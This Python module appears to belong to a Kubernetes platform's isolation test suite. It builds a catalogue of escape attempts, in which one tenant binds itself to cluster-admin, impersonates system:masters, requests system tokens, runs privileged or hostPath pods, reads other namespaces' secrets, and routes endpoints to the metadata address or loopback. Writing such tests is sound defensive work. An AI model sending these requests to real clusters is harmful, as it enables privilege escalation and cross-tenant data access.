"""The catalogue: what has broken systems of this kind (CASES.md, T1 to T35), against a pool with two departments.

`water0` attacks, `water1` is attacked; `register` is a shared service of water1, whose namespace its people may enter.
"""

import json
from collections.abc import Callable, Iterator
from typing import Any

from commonpool.components.names import PROXY

from escapes.attempt import MERGE, Attempt, Body, changed, gone

OWN, OTHER, SERVED = "water0-main", "water1-main", "service-register"
SYSTEM, PLATFORM = "kube-system", "commonpool-system"
CORE, RBAC = "/api/v1", "/apis/rbac.authorization.k8s.io/v1"
ADMISSION = "/apis/admissionregistration.k8s.io/v1"
IMAGE = "registry.jiangnan.example/a/b:1"
SECURE: Body = {
    "allowPrivilegeEscalation": False,
    "runAsNonRoot": True,
    "capabilities": {"drop": ["ALL"]},
    "seccompProfile": {"type": "RuntimeDefault"},
}
# By these a claim is bound to any free volume, or counts as one of another class than its spec says.
CONTROLLERS_WORDS = {
    "pv.kubernetes.io/bind-completed": "yes",
    "volume.beta.kubernetes.io/storage-class": "gp3",
    "volume.kubernetes.io/selected-node": "rs-01",
}
Read = Callable[[str], Body]


def container(name: str = "main", **fields: Any) -> Body:
    amount = {"cpu": "1m", "memory": "1Mi"}
    resources = {"requests": amount, "limits": amount}
    return {"name": name, "image": IMAGE, "securityContext": SECURE, "resources": resources} | fields


def pod(name: str = "escape", namespace: str = OWN, **spec: Any) -> Body:
    metadata: Body = {"name": name, "namespace": namespace}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": {"containers": [container()], **spec}}


def thing(api: str, kind: str, name: str, namespace: str = "", **fields: Any) -> Body:
    metadata = {"name": name} | ({"namespace": namespace} if namespace else {})
    return {"apiVersion": api, "kind": kind, "metadata": metadata, **fields}


def made(case: str, words: str, path: str, body: Body, **marks: Any) -> Iterator[Attempt]:
    """Created, and applied where nothing stood."""
    yield Attempt(case, f"{words} (create)", "POST", path, body, **marks)
    name = f"{path}/{body['metadata']['name']}?fieldManager=x&force=true"
    yield Attempt(case, f"{words} (apply)", "PATCH", name, body, "application/apply-patch+yaml", **marks)


def namespaces(read: Read) -> Iterator[Attempt]:
    """T1 to T5: labels, owners, subresources, names."""
    for name in (OWN, OTHER, SYSTEM, PLATFORM, "default"):
        path = f"{CORE}/namespaces/{name}"
        live = read(path)
        labels = {
            "T1 a label": {"a": "b"},
            "T1 the pool's mark": {"commonpool.dev/flavor": "secure"},
            "T1 another department's": {"commonpool.dev/department": "water0"},
            "T4 privileged pods": {"pod-security.kubernetes.io/enforce": "privileged"},
            "T4 devices of all": {"resource.kubernetes.io/admin-access": "true"},
        }
        for words, label in labels.items():
            case, _, text = words.partition(" ")
            moved = name == OTHER and "commonpool.dev/department" in label  # with all that lies in it
            yield from changed(case, f"{text} on {name}", path, live, {"metadata": {"labels": label}}, nobody=moved)
        if name in (OWN, OTHER):
            taken = {"metadata": {"labels": {"commonpool.dev/flavor": None}}}
            yield from changed("T1", f"no mark on {name}", path, live, taken)
            granted = {"metadata": {"annotations": {"commonpool.dev/registries": "docker.io"}}}
            yield from changed("T4", f"other registries for {name}", path, live, granted)
        yield from _owners(name, path, live)
        for part in ("status", "finalize"):
            body = {**live, "metadata": {**live["metadata"], "labels": {"a": "b"}}, "spec": {"finalizers": []}}
            yield Attempt("T3", f"{part} of {name}", "PUT", f"{path}/{part}", body)
        told = {"type": "NamespaceContentRemaining", "status": "False", "reason": "x", "message": "x"}
        status = {"metadata": {"labels": {"a": "b"}}, "status": {"conditions": [told]}}
        yield from changed("T3", f"status and labels of {name}", f"{path}/status", live, status)
        if name not in (SYSTEM, "default"):
            yield Attempt("T5", f"{name} deleted", "DELETE", path)
    for name in ("kube-mine", "commonpool-mine", "service-mine", "water1-mine", "mine"):
        yield from made("T5", f"namespace {name}", f"{CORE}/namespaces", thing("v1", "Namespace", name))


def _owners(name: str, path: str, live: Body) -> Iterator[Attempt]:
    owner = {"apiVersion": "v1", "kind": "Namespace", "name": OWN, "uid": live["metadata"]["uid"], "controller": True}
    forged = owner | {"uid": "00000000-0000-0000-0000-000000000000", "blockOwnerDeletion": True}
    beside = {"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "00000000-0000-0000-0000-000000000001"}
    for words, owners in {
        "an owner": [owner],
        "a forged owner": [forged],
        "owners": [beside, owner | {"controller": False}],
    }.items():
        yield from changed("T2", f"{words} for {name}", path, live, {"metadata": {"ownerReferences": owners}})


def belongings(read: Read) -> Iterator[Attempt]:
    """T13 and T14: what the platform put into a namespace, by kinds that roles keep away and by kinds that they give."""
    quota = {"spec": {"hard": {"requests.cpu": "999"}}}
    rule = {"spec": {"podSelector": {"matchLabels": {"no": "pod"}}}}
    everything = {"spec": {"podSelector": {}, "policyTypes": ["Egress"], "egress": [{}]}}
    own: list[tuple[str, Body]] = [
        (f"{CORE}/namespaces/{OWN}/resourcequotas/guaranteed-performance", quota),
        (f"{CORE}/namespaces/{OWN}/resourcequotas/objects", {"spec": {"hard": {"pods": "100000"}}}),
        (f"{CORE}/namespaces/{OWN}/limitranges/containers", {"spec": {"limits": [{"type": "Container"}]}}),
        (f"/apis/networking.k8s.io/v1/namespaces/{OWN}/networkpolicies/closed", rule),
        (f"{RBAC}/namespaces/{OWN}/rolebindings/viewer", {"metadata": {"labels": {"a": "b"}}}),
        (f"{CORE}/namespaces/{OWN}/serviceaccounts/default", {"automountServiceAccountToken": True}),
        (f"{CORE}/namespaces/{OWN}/serviceaccounts/pipeline", {"automountServiceAccountToken": True}),
        (f"{CORE}/namespaces/{OWN}/configmaps/consume-register", {"data": {"HOST": "evil.example"}}),
    ]  # fmt: skip
    for path, patch in own:
        kind = path.rsplit("/", 2)[1]
        yield from changed("T13", f"{kind} changed", path, read(path), patch)
        unmarked = {"metadata": {"labels": {"app.kubernetes.io/managed-by": None}}}
        yield from changed("T13", f"{kind} without its mark", path, read(path), unmarked)
        owners = [
            {"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "00000000-0000-0000-0000-000000000000"}
        ]
        swept, fence = {"metadata": {"ownerReferences": owners}}, kind not in ("serviceaccounts", "configmaps")
        yield from changed("T13", f"{kind} owned by what does not exist", path, read(path), swept, nobody=fence)
        if not fence:
            yield Attempt("T13", f"{kind} deleted", "DELETE", path)
        else:
            yield from gone("T13", kind, path)
    status = f"{own[0][0]}/status"
    raised = {"status": {"hard": {"requests.cpu": "999"}, "used": {"requests.cpu": "0"}}}
    yield from changed("T14", "quota's status", status, read(own[0][0]), raised)
    swept = {"metadata": {"ownerReferences": owners}}
    for place in (
        f"{CORE}/namespaces/{SERVED}/services/register",
        f"/apis/apps/v1/namespaces/{SERVED}/deployments/register",
    ):
        words = "an owner that does not exist, by the status"
        yield from changed("T13", f"{words} of {place.rsplit('/', 2)[1]}", f"{place}/status", read(place), swept)
    wide = thing("v1", "ResourceQuota", "wide", OWN, spec={"hard": {"pods": "9999"}})
    yield from made("T14", "a second quota", f"{CORE}/namespaces/{OWN}/resourcequotas", wide)
    opened = thing("networking.k8s.io/v1", "NetworkPolicy", "open", OWN, **everything)
    yield from made("T13", "an open policy", f"/apis/networking.k8s.io/v1/namespaces/{OWN}/networkpolicies", opened)
    limits = thing("v1", "LimitRange", "mine", OWN, spec={"limits": [{"type": "Pod", "max": {"cpu": "99"}}]})
    yield from made("T13", "own limits", f"{CORE}/namespaces/{OWN}/limitranges", limits)


def marks(read: Read) -> Iterator[Attempt]:
    """T35: the product's mark on an object of one's own, so that the administrator's clean-up takes or spares it, or never ends."""
    endless = thing("v1", "ConfigMap", "smuggled", OWN)
    endless["metadata"]["finalizers"] = ["example.org/never"]
    yield from made("T35", "a finalizer", f"{CORE}/namespaces/{OWN}/configmaps", endless)
    standing = f"{CORE}/namespaces/{OWN}/services/standing"
    for word in ("example.org/never", "kubernetes.io/pvc-protection"):
        yield from changed(
            "T35", f"the finalizer {word}", standing, read(standing), {"metadata": {"finalizers": [word]}}
        )
    counted = pod(
        "smuggled"
    )  # as though a Job counted it: the controller of Jobs leaves it alone for another owner's sake
    counted["metadata"] |= {"finalizers": ["batch.kubernetes.io/job-tracking"], "ownerReferences": [
        {"apiVersion": "apps/v1", "kind": "Deployment", "name": "x", "uid": "1", "controller": True}]}  # fmt: skip
    yield from made("T35", "a Job's finalizer for another owner", f"{CORE}/namespaces/{OWN}/pods", counted)
    for label in ("commonpool.dev/stack", "commonpool.dev/pool", "applyset.kubernetes.io/part-of"):
        body = thing("v1", "ConfigMap", "smuggled", OWN)
        body["metadata"]["labels"] = {label: "jiangnan"}
        yield from made("T35", f"a label {label}", f"{CORE}/namespaces/{OWN}/configmaps", body)
    body = thing("v1", "ConfigMap", "smuggled", OWN)
    body["metadata"]["labels"] = {"app.kubernetes.io/managed-by": "commonpool"}
    yield from made("T35", "a label managed-by", f"{CORE}/namespaces/{OWN}/configmaps", body)
    noted = thing("v1", "ConfigMap", "smuggled", OWN)
    noted["metadata"]["annotations"] = {"commonpool.dev/reason": "x"}
    yield from made("T35", "an annotation", f"{CORE}/namespaces/{OWN}/configmaps", noted)


def rights(read: Read) -> Iterator[Attempt]:
    """T7, T9, T12: more rights than were given."""
    group = "rbac.authorization.k8s.io"
    to = {
        "everything": ("ClusterRole", "cluster-admin", {"kind": "Group", "apiGroup": group, "name": "oidc:water0-admins"}),
        "the masters": ("ClusterRole", "commonpool-admin", {"kind": "Group", "apiGroup": group, "name": "system:masters"}),
        "everybody": ("ClusterRole", "commonpool-viewer", {"kind": "Group", "apiGroup": group, "name": "system:authenticated"}),
        "a group of nobody's": ("ClusterRole", "commonpool-viewer", {"kind": "Group", "apiGroup": group, "name": "kubeadm:cluster-admins"}),
        "the pipelines": ("ClusterRole", "commonpool-admin", {"kind": "Group", "apiGroup": group, "name": "oidc:pool-pipelines"}),
        "a person": ("ClusterRole", "commonpool-admin", {"kind": "User", "apiGroup": group, "name": "oidc:somebody"}),
        "an account elsewhere": ("ClusterRole", "commonpool-admin", {"kind": "ServiceAccount", "name": "pipeline", "namespace": OTHER}),
    }  # fmt: skip
    for words, (kind, name, subject) in to.items():
        for namespace in (OWN, OTHER):
            reference = {"apiGroup": group, "kind": kind, "name": name}
            body = thing(f"{group}/v1", "RoleBinding", "mine", namespace, roleRef=reference, subjects=[subject])
            yield from made(
                "T9", f"{words} in {namespace}", f"{RBAC}/namespaces/{namespace}/rolebindings", body, nobody=True
            )
    own = f"{RBAC}/namespaces/{OWN}/rolebindings/admin"
    me = [{"kind": "Group", "apiGroup": group, "name": "oidc:water9"}]
    yield from changed("T9", "another group as admin", own, read(own), {"subjects": me})
    rules = [{"apiGroups": ["fake.example"], "resources": ["namespaces"], "verbs": ["*"]}]
    role = thing(f"{group}/v1", "Role", "mine", OWN, rules=rules)
    yield from made("T12", "a role of one's own", f"{RBAC}/namespaces/{OWN}/roles", role)
    wide = thing(f"{group}/v1", "ClusterRole", "mine", rules=rules)
    yield from made("T9", "a cluster role", f"{RBAC}/clusterroles", wide, by_roles=True)
    reference = {"apiGroup": group, "kind": "ClusterRole", "name": "cluster-admin"}
    binding = thing(f"{group}/v1", "ClusterRoleBinding", "mine", roleRef=reference, subjects=me)
    yield from made("T9", "a cluster binding", f"{RBAC}/clusterrolebindings", binding, by_roles=True)
    for namespace, account in ((OWN, "default"), (OTHER, "pipeline"), (PLATFORM, "engine"), (SYSTEM, "default")):
        asked = thing("authentication.k8s.io/v1", "TokenRequest", account, namespace, spec={"audiences": []})
        path = f"{CORE}/namespaces/{namespace}/serviceaccounts/{account}/token"
        yield Attempt(
            "T7", f"a token for {namespace}/{account}", "POST", path, asked, by_roles=namespace in (SYSTEM, PLATFORM)
        )
    for words, headers in {
        "as an administrator": {"Impersonate-User": "x", "Impersonate-Group": "system:masters"},
        "as the other department": {"Impersonate-User": "x", "Impersonate-Group": "oidc:water1-admins"},
        "as its account": {"Impersonate-User": f"system:serviceaccount:{OTHER}:pipeline"},
    }.items():
        body = thing("v1", "ConfigMap", "mine", OTHER)
        path = f"{CORE}/namespaces/{OTHER}/configmaps"
        yield Attempt("T9", words, "POST", path, body, headers=headers, by_roles=True)


def tokens(read: Read) -> Iterator[Attempt]:
    """T29: tokens that never end."""
    for account in ("default", "pipeline"):
        body = thing("v1", "Secret", "forever", OWN, type="kubernetes.io/service-account-token")
        body["metadata"]["annotations"] = {"kubernetes.io/service-account.name": account}
        yield from made("T29", f"a token for ever of {account}", f"{CORE}/namespaces/{OWN}/secrets", body, nobody=True)
    source = {"serviceAccountToken": {"path": "token", "expirationSeconds": 10_000_000}}
    body = pod(volumes=[{"name": "token", "projected": {"sources": [source]}}])
    yield from made("T29", "a pod's token of months", f"{CORE}/namespaces/{OWN}/pods", body, nobody=True)


def _pods() -> Iterator[tuple[str, str, Body]]:
    loose: Body = {"securityContext": {**SECURE, "privileged": True, "allowPrivilegeEscalation": True}}
    yield "T17", "privileged", {"containers": [container(**loose)]}
    yield (
        "T17",
        "as root",
        {"containers": [container(securityContext={**SECURE, "runAsNonRoot": False, "runAsUser": 0})]},
    )
    yield (
        "T17",
        "that may escalate",
        {"containers": [container(securityContext={**SECURE, "allowPrivilegeEscalation": True})]},
    )
    caps = {**SECURE, "capabilities": {"drop": ["ALL"], "add": ["SYS_ADMIN"]}}
    yield "T17", "with SYS_ADMIN", {"containers": [container(securityContext=caps)]}
    yield (
        "T17",
        "with all of /proc",
        {"containers": [container(securityContext={**SECURE, "procMount": "Unmasked"})], "hostUsers": False},
    )
    yield "T17", "on a port of the host", {"containers": [container(ports=[{"containerPort": 80, "hostPort": 80}])]}
    for word in ("hostNetwork", "hostPID", "hostIPC"):
        yield "T17", word, {word: True}
    yield "T17", "a path of the host", {"volumes": [{"name": "h", "hostPath": {"path": "/"}}]}
    yield (
        "T17",
        "a share of its own choice",
        {"volumes": [{"name": "h", "nfs": {"server": "10.20.1.21", "path": "/export/a"}}]},
    )
    yield "T17", "unsafe sysctls", {"securityContext": {"sysctls": [{"name": "kernel.msgmax", "value": "1"}]}}
    windows = {"windowsOptions": {"hostProcess": True, "runAsUserName": "NT AUTHORITY\\SYSTEM"}, "runAsNonRoot": True}
    yield (
        "T17",
        "a process of a Windows host",
        {"os": {"name": "windows"}, "hostNetwork": True, "securityContext": windows},
    )
    for place in ("initContainers", "ephemeralContainers"):
        if place == "initContainers":
            yield "T18", f"privileged {place}", {place: [container("i", **loose)]}
            yield "T18", f"{place} from elsewhere", {place: [container("i", image="docker.io/library/busybox")]}
            yield (
                "T18",
                "a sidecar from elsewhere",
                {place: [container("i", image="quay.io/a/b", restartPolicy="Always")]},
            )
    yield "T18", "an image of no registry", {"containers": [container(image="busybox")]}
    yield (
        "T18",
        "a registry that starts alike",
        {"containers": [container(image="registry.jiangnan.example.evil.test/a")]},
    )
    yield (
        "T18",
        "a registry's name as a folder",
        {"containers": [container(image="evil.test/registry.jiangnan.example/a")]},
    )
    yield (
        "T18",
        "a volume of an image from elsewhere",
        {"volumes": [{"name": "i", "image": {"reference": "docker.io/a/b:1"}}]},
    )
    flavor = "commonpool.dev/flavor"
    yield "T17", "on a node of its own choice", {"nodeName": "rs-01"}
    yield "T17", "on another flavor", {"nodeSelector": {flavor: "secure"}}
    yield "T17", "on no flavor", {"nodeSelector": {flavor: ""}}
    yield "T17", "of a class that is not granted", {"priorityClassName": "flavor-secure"}
    yield "T17", "before the system itself", {"priorityClassName": "system-node-critical"}
    yield "T17", "of any class by its number", {"priorityClassName": "flavor-", "priority": 2_000_000_000}
    yield "T17", "tolerating everything", {"tolerations": [{"operator": "Exists"}]}
    yield (
        "T17",
        "tolerating a joining machine",
        {"tolerations": [{"key": "commonpool.dev/joining", "operator": "Exists"}]},
    )
    yield "T17", "tolerating another flavor", {"tolerations": [{"key": flavor, "operator": "Equal", "value": "secure"}]}
    yield "T17", "tolerating any flavor", {"tolerations": [{"key": flavor, "operator": "Exists"}]}
    yield "T17", "of a runtime that nobody declared", {"runtimeClassName": "host"}
    yield from _loosely_confined_pods()
    yield from _greedy_pods()


def _loosely_confined_pods() -> Iterator[tuple[str, str, Body]]:
    """What Pod Security lets pass where it is restricted: profiles that lie on the machine, and labels of SELinux."""
    local: dict[str, Body] = {
        "a seccomp profile": {"seccompProfile": {"type": "Localhost", "localhostProfile": "own.json"}},
        "an AppArmor profile": {"appArmorProfile": {"type": "Localhost", "localhostProfile": "crun"}},
        "SELinux's label of another": {"seLinuxOptions": {"level": "s0:c1,c2"}},
        "SELinux's label of an engine": {"seLinuxOptions": {"type": "container_engine_t"}},
    }
    for words, context in local.items():
        yield "T17", f"with {words} of its own choice", {"securityContext": context}
        for place in ("containers", "initContainers"):
            yield "T18", f"with {words} in {place}", {place: [container("other", securityContext=SECURE | context)]}


def _greedy_pods() -> Iterator[tuple[str, str, Body]]:
    """What no quota counts, what keeps others off a machine, and what Pod Security asks less of."""
    closed = [{"key": "node.kubernetes.io/unschedulable", "operator": "Exists"}]
    yield "T17", "tolerating a machine that is let go", {"tolerations": closed}
    root = container(securityContext={**SECURE, "runAsNonRoot": False, "runAsUser": 0})
    yield "T17", "as root of its own users", {"hostUsers": False, "containers": [root]}
    windows: Body = {"os": {"name": "windows"}, "securityContext": {"runAsNonRoot": True}}
    yield "T17", "for another system", windows | {"containers": [container(securityContext={})]}
    nothing: Body = {"requests": {"cpu": "0", "memory": "0"}, "limits": {"memory": "0"}}
    for place in ("containers", "initContainers"):
        yield "T15", f"that counts as nothing by its {place}", {place: [container("other", resources=nothing)]}
    yield "T17", "that holds its machine", {"terminationGracePeriodSeconds": 999_999_999}
    for word in ("livenessProbe", "startupProbe"):
        held: Body = {word: {"tcpSocket": {"port": 80}, "terminationGracePeriodSeconds": 999_999_999}}
        yield "T17", f"that holds its machine by a {word}", {"containers": [container(**held)]}
        beside = container("beside", restartPolicy="Always", **held)
        yield "T17", f"that holds its machine by the {word} of a sidecar", {"initContainers": [beside]}
    share = {"driver": "nfs.csi.k8s.io", "volumeAttributes": {"server": "10.20.1.21", "share": "/export/a"}}
    yield "T28", "with a driver's volume of its own choice", {"volumes": [{"name": "v", "csi": share}]}
    for word in ("nvidia.com/gpu", "hugepages-2Mi", "deviceclass.resource.kubernetes.io/gpu"):
        amount = {"cpu": "1m", "memory": "1Mi"}
        limits = amount | {word: "2Mi" if word.startswith("huge") else "1"}
        for place in ("containers", "initContainers"):
            found = [container("other", resources={"requests": amount, "limits": limits})]
            yield "T15", f"with {word} in {place}", {place: found}
    yield "T15", "with a claim on a device", {"resourceClaims": [{"name": "d", "resourceClaimName": "d"}]}
    disk = {"cpu": "1m", "memory": "1Mi", "ephemeral-storage": "100Gi"}
    yield "T15", "that reserves a machine's whole disk", {"containers": [container(resources={"limits": disk})]}
    elsewhere: dict[str, Body] = {"all namespaces": {"namespaceSelector": {}}, OTHER: {"namespaces": [OTHER]}}
    for words, of in elsewhere.items():
        term = {"labelSelector": {}, "topologyKey": "topology.kubernetes.io/zone", **of}
        for kind in ("podAffinity", "podAntiAffinity"):
            needed = {"requiredDuringSchedulingIgnoredDuringExecution": [term]}
            wished = {"preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 1, "podAffinityTerm": term}]}
            yield "T15", f"with {kind} to {words}", {"affinity": {kind: needed}}
            yield "T15", f"that would like {kind} to {words}", {"affinity": {kind: wished}}


def pods(read: Read) -> Iterator[Attempt]:
    """T17, T18: pods that reach out of their namespace, and what is said about a pod besides its spec."""
    for case, words, spec in _pods():
        yield Attempt(case, f"a pod {words}", "POST", f"{CORE}/namespaces/{OWN}/pods", pod(**spec), nobody=True)
    old_way = pod()
    old_way["metadata"]["annotations"] = {"container.apparmor.security.beta.kubernetes.io/main": "localhost/crun"}
    yield from made("T17", "an AppArmor profile, the old way", f"{CORE}/namespaces/{OWN}/pods", old_way, nobody=True)
    place = f"{CORE}/namespaces/{OWN}/pods/standing"
    live = read(place)
    elsewhere = [container("debug", image="docker.io/library/busybox")]
    privileged = [container("debug", securityContext={**SECURE, "privileged": True, "allowPrivilegeEscalation": True})]
    profile = {"type": "Localhost", "localhostProfile": "crun"}
    loose = [container("debug", securityContext=SECURE | {"appArmorProfile": profile})]
    added = {"from elsewhere": elsewhere, "with privileges": privileged, "with a profile of its own choice": loose}
    for words, found in added.items():
        debug: Body = {
            "spec": {"ephemeralContainers": [{k: v for k, v in one.items() if k != "resources"} for one in found]}
        }
        yield from changed(
            "T18", f"an ephemeral container {words}", f"{place}/ephemeralcontainers", live, debug, nobody=True
        )
    image = [{"name": "main", "image": "docker.io/library/busybox"}]
    yield Attempt(
        "T18",
        "another image",
        "PATCH",
        place,
        {"spec": {"containers": image}},
        "application/strategic-merge-patch+json",
        nobody=True,
    )
    tolerant = {"spec": {"tolerations": [*(live["spec"].get("tolerations") or []), {"operator": "Exists"}]}}
    yield Attempt("T17", "a toleration afterwards", "PATCH", place, tolerant, MERGE, nobody=True)
    for words, path in {"name": place, "selector": f"{CORE}/namespaces/{OWN}/pods"}.items():
        endless, at_once = (f"{path}?gracePeriodSeconds={seconds}" for seconds in (999_999_999, 0))
        yield Attempt("T17", f"a pod that never ends, deleted by {words}", "DELETE", endless, nobody=True)
        yield Attempt("T15", f"a pod that runs on and counts no more, deleted by {words}", "DELETE", at_once)
    for words, seconds in {"never ends": 999_999_999, "runs on and counts no more": 0}.items():
        told = {"deleteOptions": {"gracePeriodSeconds": seconds}}
        evicted = thing("policy/v1", "Eviction", "standing", OWN, **told)
        yield Attempt("T17", f"a pod that {words}, evicted", "POST", f"{place}/eviction", evicted, nobody=seconds > 0)
    binding = thing("v1", "Binding", "waiting", OWN, target={"apiVersion": "v1", "kind": "Node", "name": "rs-01"})
    yield Attempt("T17", "its own binding", "POST", f"{CORE}/namespaces/{OWN}/pods/waiting/binding", binding)
    yield Attempt("T17", "its own binding, the old way", "POST", f"{CORE}/namespaces/{OWN}/bindings", binding)


def burdens(read: Read) -> Iterator[Attempt]:
    """F22: single objects that keep the controllers and the machines busy that work for everybody."""
    labels: Body = {"escape": "burden"}
    template = {"metadata": {"labels": labels}, "spec": pod()["spec"]}
    many: Body = {"replicas": 501, "serviceName": "x", "selector": {"matchLabels": labels}, "template": template}
    sets = f"/apis/apps/v1/namespaces/{OWN}/statefulsets"
    yield from made("F22", "a set of 501", sets, thing("apps/v1", "StatefulSet", "escape", OWN, spec=many), nobody=True)
    standing = f"{sets}/standing"
    yield from changed("F22", "501 afterwards", standing, read(standing), {"spec": {"replicas": 501}}, nobody=True)
    scale = thing("autoscaling/v1", "Scale", "standing", OWN, spec={"replicas": 501})
    yield Attempt("F22", "501 by the scale", "PUT", f"{standing}/scale", scale, nobody=True)
    target = {"apiVersion": "apps/v1", "kind": "StatefulSet", "name": "standing"}
    metric: Body = {
        "type": "External",
        "external": {"metric": {"name": "m"}, "target": {"type": "Value", "value": "1"}},
    }
    wanted: Body = {"maxReplicas": 2, "scaleTargetRef": target, "metrics": [metric] * 11}
    place = f"/apis/autoscaling/v2/namespaces/{OWN}/horizontalpodautoscalers"
    scaler = thing("autoscaling/v2", "HorizontalPodAutoscaler", "escape", OWN, spec=wanted)
    yield from made("F22", "an autoscaler of 11 metrics", place, scaler, nobody=True)
    old_way = thing("autoscaling/v1", "HorizontalPodAutoscaler", "escape", OWN,
                    spec={"maxReplicas": 2, "scaleTargetRef": target})  # fmt: skip
    former = {"type": "External", "external": {"metricName": "m", "targetValue": "1"}}
    old_way["metadata"]["annotations"] = {"autoscaling.alpha.kubernetes.io/metrics": json.dumps([former] * 11)}
    yield from made("F22", "the same, the old way", place.replace("/v2/", "/v1/"), old_way, nobody=True)
    ports = [{"name": f"p{number}", "port": number} for number in range(1, 52)]
    wide = thing("v1", "Service", "escape", OWN, spec={"ports": ports})
    yield from made("F22", "a Service of 51 ports", f"{CORE}/namespaces/{OWN}/services", wide, nobody=True)
    owners = [{"apiVersion": "v1", "kind": "ConfigMap", "name": f"x{one}", "uid": f"{one}"} for one in range(5)]
    owned = thing("v1", "ConfigMap", "escape", OWN)
    owned["metadata"]["ownerReferences"] = owners
    yield from made("F22", "five owners that are gone", f"{CORE}/namespaces/{OWN}/configmaps", owned)
    service = f"{CORE}/namespaces/{OWN}/services/standing"
    patch = {"metadata": {"ownerReferences": owners}}
    yield from changed("F22", "five owners afterwards", service, read(service), patch)


def neighbours(read: Read) -> Iterator[Attempt]:
    """What one department does in another's namespace, and in the platform's, by kinds that it may write at home."""
    for namespace in (OTHER, SYSTEM, PLATFORM, "commonpool-proxy", SERVED):
        place = f"{CORE}/namespaces/{namespace}"
        by_roles: Body = {"by_roles": True}
        yield Attempt("T6", f"a pod in {namespace}", "POST", f"{place}/pods", pod(namespace=namespace), **by_roles)
        note = thing("v1", "ConfigMap", "mine", namespace)
        yield from made("T6", f"a ConfigMap in {namespace}", f"{place}/configmaps", note, **by_roles)
        yield Attempt("T33", f"Secrets of {namespace}", "GET", f"{place}/secrets", **by_roles)
        yield Attempt("T33", f"ConfigMaps of {namespace}", "GET", f"{place}/configmaps", **by_roles)
        yield Attempt("T33", f"pods of {namespace}", "GET", f"{place}/pods?watch=false", **by_roles)
        yield Attempt("T6", f"everything deleted in {namespace}", "DELETE", f"{place}/configmaps", **by_roles)
        for part in ("exec?command=id&stdout=true", "log", "portforward", "attach", "proxy/"):
            method = "GET" if part in ("log", "proxy/") else "POST"
            yield Attempt("T6", f"{part} in {namespace}", method, f"{place}/pods/standing/{part}", **by_roles)
        evicted = thing("policy/v1", "Eviction", "standing", namespace)
        yield Attempt("T6", f"eviction in {namespace}", "POST", f"{place}/pods/standing/eviction", evicted, **by_roles)
    for path in (
        "/api/v1/secrets",
        "/api/v1/pods",
        "/api/v1/namespaces",
        "/api/v1/nodes",
        "/api/v1/configmaps?labelSelector=a",
        "/api/v1/events",
    ):
        yield Attempt("T33", f"all of {path}", "GET", path, by_roles=True)
    yield Attempt(
        "T6",
        "a body that names another namespace",
        "POST",
        f"{CORE}/namespaces/{OWN}/configmaps",
        thing("v1", "ConfigMap", "mine", OTHER),
        nobody=True,
    )
    yield Attempt("T8", "the kubelet's API", "GET", "/api/v1/nodes/rs-01/proxy/pods", by_roles=True)
    yield Attempt("T8", "metrics of the API server", "GET", "/metrics", by_roles=True)
    lease = f"/apis/coordination.k8s.io/v1/namespaces/{PLATFORM}/leases"
    yield Attempt("T6", "the platform's locks", "DELETE", lease, by_roles=True)


def services(read: Read) -> Iterator[Attempt]:
    """T19 to T23: traffic that goes elsewhere."""
    place = f"{CORE}/namespaces/{OWN}/services"
    port: Body = {"ports": [{"port": 80}]}
    for case, words, spec in (
        ("T19", "NodePort", {"type": "NodePort", **port}),
        ("T19", "LoadBalancer", {"type": "LoadBalancer", **port}),
        ("T19", "externalIPs", {"externalIPs": ["10.20.1.1"], **port}),
        ("T19", "loadBalancerIP", {"loadBalancerIP": "10.20.1.1", **port}),
        ("T19", "the address of name resolution", {"clusterIP": "10.96.0.10", **port}),
        ("T19", "NodePort by the name of a name", {"type": "NodePort", "externalName": PROXY, **port}),
        ("T20", "localhost", {"type": "ExternalName", "externalName": "localhost"}),
        ("T20", "another namespace", {"type": "ExternalName", "externalName": f"x.{OTHER}.svc.cluster.local"}),
        ("T20", "metadata", {"type": "ExternalName", "externalName": "metadata.google.internal"}),
        ("T20", "a name that leads to loopback", {"type": "ExternalName", "externalName": "127.0.0.1.nip.io"}),
    ):
        called = "commonpool-escape" if spec.get("externalName") == PROXY else "escape"
        yield from made(
            case, f"a Service for {words}", place, thing("v1", "Service", called, OWN, spec=spec), nobody=True
        )
    path = f"{place}/standing"
    live = read(path)
    yield from changed("T19", "type afterwards", path, live, {"spec": {"type": "NodePort"}}, nobody=True)
    yield from changed(
        "T19", "externalIPs afterwards", path, live, {"spec": {"externalIPs": ["10.20.1.1"]}}, nobody=True
    )
    name = {"spec": {"type": "ExternalName", "externalName": "localhost", "clusterIP": None, "clusterIPs": None}}
    yield from changed("T20", "ExternalName afterwards", path, live, name, nobody=True)
    taken = {"status": {"loadBalancer": {"ingress": [{"ip": "10.96.0.1"}]}}}
    yield from changed("T19", "an address in the status", f"{path}/status", live, taken, nobody=True)
    yield from _endpoints(read)
    yield from _routes()


def _endpoints(read: Read) -> Iterator[Attempt]:
    for address in ("10.128.0.9", "127.0.0.1", "169.254.169.254", "10.96.0.1"):
        points = [{"addresses": [address]}]
        found = thing(
            "discovery.k8s.io/v1",
            "EndpointSlice",
            "escape",
            OWN,
            addressType="IPv4",
            ports=[{"port": 80}],
            endpoints=points,
        )
        found["metadata"]["labels"] = {"kubernetes.io/service-name": "standing"}
        yield from made(
            "T21",
            f"a slice at {address}",
            f"/apis/discovery.k8s.io/v1/namespaces/{OWN}/endpointslices",
            found,
            nobody=True,
        )
        old = thing(
            "v1", "Endpoints", "standing", OWN, subsets=[{"addresses": [{"ip": address}], "ports": [{"port": 80}]}]
        )
        yield from made(
            "T21",
            f"Endpoints at {address}",
            f"{CORE}/namespaces/{OWN}/endpoints",
            old,
            nobody=address.startswith(("127.", "169.")),
        )


def _routes() -> Iterator[Attempt]:
    group = "gateway.networking.k8s.io"
    place = f"/apis/{group}/v1/namespaces/{OWN}"
    parent = [{"name": "shared", "namespace": "commonpool-proxy"}]
    for host in ("register.water1.pool.jiangnan.example", "*.jiangnan.example", "xn--80ak6aa92e.example"):
        route = thing(f"{group}/v1", "HTTPRoute", "escape", OWN, spec={"parentRefs": parent, "hostnames": [host]})
        yield from made("T22", f"a route for {host}", f"{place}/httproutes", route)
    listeners = [{"name": "a", "port": 9999, "protocol": "HTTP", "allowedRoutes": {"namespaces": {"from": "All"}}}]
    gateway = thing(
        f"{group}/v1", "Gateway", "escape", OWN, spec={"gatewayClassName": "commonpool", "listeners": listeners}
    )
    yield from made("T22", "a Gateway", f"{place}/gateways", gateway)
